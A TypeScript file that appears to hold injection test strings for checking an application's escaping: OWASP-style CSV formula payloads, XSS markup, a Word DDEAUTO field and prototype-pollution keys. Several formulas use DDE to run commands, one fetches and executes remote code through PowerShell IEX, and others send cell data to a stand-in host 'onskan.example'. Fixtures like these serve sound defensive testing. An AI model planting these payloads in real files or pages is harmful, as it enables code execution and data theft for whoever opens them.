/**
 * Texts that a spreadsheet or a browser may run: OWASP's CSV Injection list, the functions that fetch, DDE, and HTML. Each holds its number where
 * it can, so that a place that ran it is found again.
 */
export const FORMULAS: readonly string[] = [
  "=1+1", "=cmd|' /C calc'!A0", "=cmd|'/C powershell IEX(wget 0r.pe/p)'!A0", "=HYPERLINK(\"http://onskan.example/?x=\"&A1,\"Klicka\")", "=WEBSERVICE(\"http://onskan.example/\"&A1)",
  "=IMPORTXML(CONCAT(\"http://onskan.example/?v=\",A2:E6),\"//a\")", "=IMAGE(\"http://onskan.example/x.png\")", "=DDE(\"cmd\";\"/C calc\";\"x\")", "=FILTERXML(WEBSERVICE(\"http://onskan.example\"),\"//a\")",
  "='\\\\onskan.example\\dela\\[x.xlsx]Blad1'!A1", "=RTD(\"x\",\"\",\"y\")", "=CALL(\"Kernel32\",\"WinExec\",\"JCJ\",\"calc\",0)", "=EXEC(\"calc\")", "=REGISTER.ID(\"Kernel32\",\"WinExec\")",
  "+1+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0", "-1+1", "@SUM(1+1)*cmd|' /C calc'!A0", "@SUM(1,1)", "%0A-3+3+cmd|' /C calc'!A0",
  "\t=1+1", "\r=1+1", "\n=1+1", "\r\n=cmd|' /C calc'!A0", " =1+1", "\u00a0=1+1", "\u200b=1+1", "\ufeff=1+1", "＝1+1", "＋1+1", "－1+1", "＠SUM(1,1)",
  "'=1+1", "\"=1+1\"", ";=1+1", ",=1+1", "=\"a\"&\"b\"", "={1;2}", "=A1048577", "=_xldudf_AVVIKELSE(1,2)", "=AVVIKELSE(1,2)",
];

export const MARKUP: readonly string[] = [
  "<script>window.onskad=1</script>", "<img src=x onerror=\"window.onskad=1\">", "<svg/onload=window.onskad=1>", "\"><iframe src=\"javascript:window.onskad=1\"></iframe>",
  "<a href=\"javascript:window.onskad=1\">x</a>", "<style>*{display:none}</style>", "<base href=\"http://onskan.example/\">", "{{constructor.constructor('window.onskad=1')()}}", "${window.onskad=1}",
  "]]><x/>", "<!--", "&lt;b&gt; & &#x3c;", "</w:t></w:r><w:fldSimple w:instr=\"DDEAUTO cmd\"/>",
];

export const PROTOTYPE: readonly string[] = ["__proto__", "constructor", "prototype", "toString", "hasOwnProperty", "valueOf"];

/** All of them. */
export const INJECTIONS: readonly string[] = [...FORMULAS, ...MARKUP, ...PROTOTYPE];
